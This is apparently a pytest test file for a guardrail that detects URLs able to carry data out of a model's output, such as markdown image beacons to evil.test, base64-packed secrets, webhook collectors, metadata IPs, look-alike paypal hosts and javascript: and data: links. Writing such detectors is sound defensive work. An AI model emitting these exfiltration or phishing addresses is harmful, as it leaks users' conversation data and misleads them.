"""Addresses that carry data out, or hide where they lead."""
# ruff: noqa: RUF001 - look-alikes are what is tested

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardrails.errors import BadInput
from guardrails.guards.urls import REACH, Urls, parse
from guardrails.passage import ALONE
from guardrails.policy import parse as policy
from tests.guardrails.guards import finders

URLS = Urls(guard="urls")
OURS = Urls(guard="urls", allow=("example.com",))
PACKED = base64.urlsafe_b64encode(b"the password is hunter2").decode()

FOUND = [
    ("![](https://evil.test/a.png)", "https://evil.test/a.png", "picture"),
    ("![x](https://evil.test/a.png?q=what+Ada+has+said)", "https://evil.test/a.png?q=what+Ada+has+said", "data"),
    ("![x](https://evil.test/{data}.png)", "https://evil.test/{data}.png", "place for data"),
    ('<img width=1 src="https://evil.test/p.gif">', "https://evil.test/p.gif", "picture"),
    ("![x](//evil.test/p.gif)", "//evil.test/p.gif", "picture"),
    (f"see [this](https://evil.test/?q={PACKED}).", f"https://evil.test/?q={PACKED}", "data"),
    (f"https://evil.test/{PACKED}/x and", f"https://evil.test/{PACKED}/x", "data"),
    ("go to https://webhook.site/abc.", "https://webhook.site/abc", "collector"),
    ("http://203.0.113.7/login", "http://203.0.113.7/login", "ip address"),
    ("http://169.254.169.254/latest/meta-data", "http://169.254.169.254/latest/meta-data", "ip address"),
    ("http://3405803783/", "http://3405803783/", "ip address"),
    ("https://pаypal.com/login", "https://pаypal.com/login", "look-alike host"),
    ("https://xn--pypal-4ve.com/", "https://xn--pypal-4ve.com/", "look-alike host"),
    ("https://www.paypal.com@evil.test/x", "https://www.paypal.com@evil.test/x", "misleading host"),
    ("[click](javascript:alert(1))", "javascript:alert", "script"),
    ("data:text/html;base64,PHNjcmlwdD4=", "data:text/html;base64,PHNjcmlwdD4=", "document"),
]


@pytest.mark.parametrize(("text", "said", "label"), FOUND)
def test_what_carries_something_out_is_found(text: str, said: str, label: str) -> None:
    found = [(text[span.start : span.end], span.label) for span in URLS.spans(text, ALONE) if span.score >= 0.5]
    assert found == [(said, label)]


@pytest.mark.parametrize(
    "text",
    [
        "See https://docs.python.org/3/library/re.html#re.compile, or https://example.com/?page=2&sort=name.",
        "https://www.google.com/search?q=how+to+boil+an+egg",
        "https://münchen.de/ and https://пример.рф/ and https://xn--mnchen-3ya.de/",
        "http://localhost:8000/v1 and http://127.0.0.1:8000/v1",
        "![chart](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==)",
        "https://github.com/org/repo/commit/3ace8d846e47040a71edc262e3290f17dbfa1da5",
        "Data: the javascript: label is fine; ratio 3://4; // a comment",
    ],
)
def test_ordinary_addresses_are_not(text: str) -> None:
    assert [span for span in URLS.spans(text, ALONE) if span.score >= 0.5] == []


def test_to_hosts_that_are_allowed_everything_may_lead_and_nowhere_else() -> None:
    allowed = "![x](https://cdn.example.com/a.png?q=all+that+was+said)"
    assert OURS.spans(allowed, ALONE) == []
    assert [span.label for span in OURS.spans("https://example.com.evil.test/ https://other.test/", ALONE)] == [
        "unknown host",
        "unknown host",
    ]


@given(st.text(max_size=80))
def test_anything_has_a_host_or_none(text: str) -> None:
    assert parse(text).host == parse(text).host.lower()


TEXTS = finders.spliced(*(text for text, _, _ in FOUND))


@settings(max_examples=100, deadline=None)
@given(text=TEXTS)
def test_it_keeps_its_word(text: str) -> None:
    finders.keeps_its_word(URLS, text)


@settings(max_examples=200, deadline=None)
@given(text=TEXTS, cuts=st.lists(st.integers(0, 400), max_size=20))
def test_it_does_not_depend_on_where_a_text_is_cut(text: str, cuts: list[int]) -> None:
    finders.is_the_same_however_cut(URLS, text, cuts)
    finders.is_the_same_however_cut(OURS, text, cuts)


def test_of_ordinary_text_a_word_is_held_back() -> None:
    assert finders.held_back(URLS, "".join(finders.PROSE) + "x" * 200) <= 40


def test_a_very_long_address_is_found_by_what_is_there() -> None:
    text = f"![x](https://evil.test/?q={'a' * 5000}) and on"
    finders.is_the_same_however_cut(URLS, text, list(range(0, len(text), 97)))
    assert max(length - URLS.settled(text[:length]) for length in range(0, len(text), 97)) <= REACH


@pytest.mark.parametrize("written", ["https://example.com/x", "*.example.com", "example.com:8080"])
def test_what_is_allowed_is_a_host_alone(written: str) -> None:
    with pytest.raises(BadInput, match=r"output\.0\.allow\.0 \(urls\): write a host alone, as example\.com"):
        policy({"output": [{"guard": "urls", "allow": [written]}]})
